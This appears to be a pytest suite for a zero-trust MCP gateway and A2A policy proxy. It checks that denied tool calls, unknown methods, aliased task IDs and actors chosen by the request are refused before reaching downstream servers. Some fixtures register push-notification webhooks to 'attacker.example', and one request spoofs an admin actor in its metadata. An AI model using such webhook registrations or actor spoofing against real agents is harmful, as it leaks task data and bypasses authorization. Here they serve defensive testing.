"""The drop-in MCP gateway and A2A proxy against the real control plane: a denied request never
reaches the downstream server; an allowed one does."""

from __future__ import annotations

from typing import Any, Dict, List

import pytest
from fake_mcp import FakeMCPServer, tool
from zt_server import ZtServer

from zt_infra import A2APolicyProxy, ControlPlaneClient, MCPZeroTrustGateway
from zt_infra.mcp import MCPGatewayError

ACTOR = "py-gateway-agent"


@pytest.fixture(scope="module")
def client(zt: ZtServer) -> ControlPlaneClient:
    token = zt.register(ACTOR)
    zt.allow("mcp.github.get_issue", "reading issues is fine")
    zt.allow("a2a.github_agent.get_task", "reading a task is fine")
    zt.allow("a2a.search_agent.send_message", "the search agent may be asked")
    return ControlPlaneClient(zt.url, actor=ACTOR, token=token, timeout=30)


def test_mcp_gateway(client: ControlPlaneClient) -> None:
    server = FakeMCPServer([tool("get_issue", ["owner", "repo"]), tool("delete_repo", ["owner", "repo"])])
    gateway = MCPZeroTrustGateway(server, control_plane=client, actor=ACTOR, server_name="github")
    allowed = gateway.handle_message(
        {
            "jsonrpc": "2.0",
            "id": 1,
            "method": "tools/call",
            "params": {"name": "get_issue", "arguments": {"owner": "o", "repo": "r"}},
        }
    )
    denied = gateway.handle_message(
        {
            "jsonrpc": "2.0",
            "id": 2,
            "method": "tools/call",
            "params": {"name": "delete_repo", "arguments": {"owner": "o", "repo": "r"}},
        }
    )
    listed = gateway.handle_message({"jsonrpc": "2.0", "id": 3, "method": "tools/list"})
    assert [m["id"] for m in server.forwarded] == [1]
    assert [m["id"] for m in server.listed] == ["zt-gateway/tools-list/1", 3]
    assert allowed is not None and "error" not in allowed and listed is not None
    assert denied is not None and denied["result"]["isError"] is True
    decision = denied["result"]["structuredContent"]
    assert decision["decision"] == "deny" and decision["action"] == "mcp.github.delete_repo"
    assert decision["resource"] == "o/r"
    with pytest.raises(MCPGatewayError):
        gateway.handle_message({"id": 4, "method": "tools/call"})


def test_a2a_proxy(client: ControlPlaneClient) -> None:
    forwarded: List[Dict[str, Any]] = []

    def downstream(request: Dict[str, Any]) -> Dict[str, Any]:
        forwarded.append(request)
        return {"jsonrpc": "2.0", "id": request["id"], "result": {"task": {"id": "t1"}}}

    send = {"message": {"messageId": "m1", "parts": [{"text": "open a PR"}]}}
    denied = A2APolicyProxy(downstream, control_plane=client, actor=ACTOR, remote_agent="github_agent").handle_jsonrpc(
        {"jsonrpc": "2.0", "id": 1, "method": "SendMessage", "params": send}
    )
    allowed = A2APolicyProxy(downstream, control_plane=client, actor=ACTOR, remote_agent="search agent").handle_jsonrpc(
        {"jsonrpc": "2.0", "id": 2, "method": "SendMessage", "params": send}
    )
    assert [r["id"] for r in forwarded] == [2] and allowed is not None
    assert isinstance(denied, dict)
    task = denied["result"]["task"]
    assert task["status"]["state"] == "TASK_STATE_REJECTED"
    assert task["metadata"]["zero_trust"]["action"] == "a2a.github_agent.send_message"
    assert task["metadata"]["zero_trust"]["decision"] == "deny"


def test_a2a_proxy_decides_0_3_names_and_the_task_the_agent_acts_on(client: ControlPlaneClient) -> None:
    forwarded: List[Dict[str, Any]] = []

    def downstream(request: Dict[str, Any]) -> Dict[str, Any]:
        forwarded.append(request)
        return {"jsonrpc": "2.0", "id": request["id"], "result": {"task": {"id": "t1"}}}

    proxy = A2APolicyProxy(downstream, control_plane=client, actor=ACTOR, remote_agent="github_agent")
    send = {"message": {"messageId": "m1", "parts": [{"kind": "text", "text": "open a PR"}]}}
    # An agent with A2A 0.3 compatibility serves `message/send` too: decided as `SendMessage`
    # (it was forwarded undecided).
    denied = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 1, "method": "message/send", "params": send})
    assert isinstance(denied, dict)
    decision = denied["result"]["task"]["metadata"]["zero_trust"]
    assert decision["action"] == "a2a.github_agent.send_message" and decision["decision"] == "deny"
    # A cancel is decided on the task the agent cancels, `params.id`; denied, it is an error
    # (-32090) carrying the decision, as `zt a2a-proxy` answers it.
    denied = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 2, "method": "tasks/cancel", "params": {"id": "prod-task"}})
    assert isinstance(denied, dict) and denied["error"]["code"] == -32090
    decision = denied["error"]["data"]["zero_trust"]
    assert (decision["action"], decision["resource"]) == ("a2a.github_agent.cancel_task", "prod-task")
    # A second name for the task, which the agent ignores, or a proto field name: refused.
    for params in ({"id": "prod-task", "taskId": "scratch"}, {"id": "prod-task", "task_id": "scratch"}):
        refused = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 3, "method": "CancelTask", "params": params})
        assert isinstance(refused, dict) and refused["error"]["code"] == -32602, refused
    assert forwarded == []


def test_mcp_gateway_refuses_arguments_that_are_not_an_object(client: ControlPlaneClient) -> None:
    """`[]`, `""`, `0`, `false` were decided as `{}` (an allowed `get_issue`) and forwarded as
    they came: the server read other arguments than the ones decided on."""
    server = FakeMCPServer([tool("get_issue", ["owner", "repo"])])
    forwarded = server.forwarded
    gateway = MCPZeroTrustGateway(server, control_plane=client, actor=ACTOR, server_name="github")
    for n, arguments in enumerate([[], "", 0, False, None, ["owner", "repo"], "x"]):
        refused = gateway.handle_message(
            {"jsonrpc": "2.0", "id": n, "method": "tools/call", "params": {"name": "get_issue", "arguments": arguments}}
        )
        assert refused is not None and refused["error"]["code"] == -32602, (arguments, refused)
    assert forwarded == []
    # No arguments at all are none: decided (allowed) as `{}` and forwarded.
    allowed = gateway.handle_message(
        {"jsonrpc": "2.0", "id": 9, "method": "tools/call", "params": {"name": "get_issue"}}
    )
    assert allowed is not None and "error" not in allowed and [m["id"] for m in forwarded] == [9]


#: Every A2A method (1.0, then 0.3), params naming what it acts on, and the action and resource
#: it must be decided under (docs/GATEWAYS.md, "Action and resource names").
A2A_CALLS = [
    ("GetTask", {"id": "t1"}, "get_task", "t1"),
    ("ListTasks", {"contextId": "c1"}, "list_tasks", "c1"),
    ("CancelTask", {"id": "t1"}, "cancel_task", "t1"),
    ("SubscribeToTask", {"id": "t1"}, "subscribe_to_task", "t1"),
    (
        "CreateTaskPushNotificationConfig",
        {"taskId": "t1", "config": {"url": "https://attacker.example/hook"}},
        "create_task_push_notification_config",
        "t1",
    ),
    ("GetTaskPushNotificationConfig", {"taskId": "t1", "id": "cfg"}, "get_task_push_notification_config", "t1"),
    ("ListTaskPushNotificationConfigs", {"taskId": "t1"}, "list_task_push_notification_configs", "t1"),
    ("DeleteTaskPushNotificationConfig", {"taskId": "t1", "id": "cfg"}, "delete_task_push_notification_config", "t1"),
    ("GetExtendedAgentCard", {}, "get_extended_agent_card", ""),
    ("tasks/get", {"id": "t1"}, "get_task", "t1"),
    ("tasks/list", {"contextId": "c1"}, "list_tasks", "c1"),
    ("tasks/cancel", {"id": "t1"}, "cancel_task", "t1"),
    ("tasks/resubscribe", {"id": "t1"}, "subscribe_to_task", "t1"),
    (
        "tasks/pushNotificationConfig/set",
        {"taskId": "t1", "pushNotificationConfig": {"url": "https://attacker.example/hook"}},
        "create_task_push_notification_config",
        "t1",
    ),
    (
        "tasks/pushNotificationConfig/get",
        {"id": "t1", "pushNotificationConfigId": "cfg"},
        "get_task_push_notification_config",
        "t1",
    ),
    ("tasks/pushNotificationConfig/list", {"id": "t1"}, "list_task_push_notification_configs", "t1"),
    (
        "tasks/pushNotificationConfig/delete",
        {"id": "t1", "pushNotificationConfigId": "cfg"},
        "delete_task_push_notification_config",
        "t1",
    ),
    ("agent/getAuthenticatedExtendedCard", None, "get_extended_agent_card", ""),
]


def test_a2a_proxy_decides_every_a2a_method_and_refuses_the_rest(client: ControlPlaneClient) -> None:
    """Only `protected_methods` (by default three) were decided; every other method, a push
    config sending task results to any webhook included, was forwarded undecided."""
    forwarded: List[Dict[str, Any]] = []

    def downstream(request: Dict[str, Any]) -> Dict[str, Any]:
        forwarded.append(request)
        return {"jsonrpc": "2.0", "id": request["id"], "result": {}}

    proxy = A2APolicyProxy(downstream, control_plane=client, actor=ACTOR, remote_agent="github_agent")
    for n, (method, params, action, resource) in enumerate(A2A_CALLS):
        request: Dict[str, Any] = {"jsonrpc": "2.0", "id": n, "method": method}
        if params is not None:
            request["params"] = params
        answer = proxy.handle_jsonrpc(request)
        assert isinstance(answer, dict)
        if action == "get_task":  # the one the policy allows
            assert forwarded[-1] is request and "error" not in answer
            continue
        assert answer["error"]["code"] == -32090, (method, answer)
        decision = answer["error"]["data"]["zero_trust"]
        assert (decision["action"], decision["resource"]) == (f"a2a.github_agent.{action}", resource), method
        assert decision["decision"] == "deny" and decision["actor"] == ACTOR
    assert [r["method"] for r in forwarded] == ["GetTask", "tasks/get"]
    # Not an A2A method: refused without a decision, never forwarded.
    for n, method in enumerate(["tasks/delete", "sendMessage", "FooBar", "", "message/Send"]):
        refused = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 100 + n, "method": method, "params": {}})
        assert isinstance(refused, dict) and refused["error"]["code"] == -32601, (method, refused)
    # A second name for the subject, which the agent ignores, or a subject that is not a string.
    for method, params in [
        ("tasks/pushNotificationConfig/get", {"id": "t1", "taskId": "scratch"}),
        ("ListTasks", {"contextId": "c1", "id": "t1"}),
        ("GetTask", {"id": 7}),
        ("CreateTaskPushNotificationConfig", {"taskId": ["t1"]}),
    ]:
        refused = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 200, "method": method, "params": params})
        assert isinstance(refused, dict) and refused["error"]["code"] == -32602, (method, refused)
    assert len(forwarded) == 2


def test_a2a_protected_methods_no_longer_narrow_what_is_decided(client: ControlPlaneClient) -> None:
    """Naming fewer methods in `protected_methods` once left the others undecided; a method
    outside A2A named there is decided (and forwarded only when allowed)."""
    forwarded: List[Dict[str, Any]] = []

    def downstream(request: Dict[str, Any]) -> Dict[str, Any]:
        forwarded.append(request)
        return {"jsonrpc": "2.0", "id": request["id"], "result": {}}

    proxy = A2APolicyProxy(
        downstream,
        control_plane=client,
        actor=ACTOR,
        remote_agent="github_agent",
        protected_methods=frozenset({"SendMessage", "x-ext/doThing"}),
    )
    cancel = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 1, "method": "CancelTask", "params": {"id": "t1"}})
    extension = proxy.handle_jsonrpc({"jsonrpc": "2.0", "id": 2, "method": "x-ext/doThing", "params": {"id": "t1"}})
    assert isinstance(cancel, dict) and cancel["error"]["code"] == -32090
    assert isinstance(extension, dict) and extension["error"]["code"] == -32090
    assert extension["error"]["data"]["zero_trust"]["action"] == "a2a.github_agent.x-ext_do_thing"
    assert forwarded == []


def test_a2a_proxy_does_not_let_the_request_choose_its_actor(client: ControlPlaneClient) -> None:
    """With no `actor`, the actor came from the message's `metadata.actor`: whoever sent the
    request chose whom the decision was for. Now it is the client's, unless asked for."""
    forwarded: List[Dict[str, Any]] = []

    def downstream(request: Dict[str, Any]) -> Dict[str, Any]:
        forwarded.append(request)
        return {"jsonrpc": "2.0", "id": request["id"], "result": {"task": {"id": "t1"}}}

    send = {"message": {"messageId": "m1", "parts": [{"text": "find docs"}], "metadata": {"actor": "py-admin"}}}
    request = {"jsonrpc": "2.0", "id": 1, "method": "SendMessage", "params": send}
    allowed = A2APolicyProxy(downstream, control_plane=client, remote_agent="search agent").handle_jsonrpc(request)
    assert allowed is not None and forwarded == [request]
    # Opted in, the request's actor is asked for (and the control plane refuses it: the token is
    # another actor's).
    chosen = A2APolicyProxy(
        downstream, control_plane=client, remote_agent="search agent", actor_from_request=True
    ).handle_jsonrpc(request)
    assert isinstance(chosen, dict) and len(forwarded) == 1
    decision = chosen["result"]["task"]["metadata"]["zero_trust"]
    assert decision["decision"] == "deny" and "py-admin" in decision["reason"]
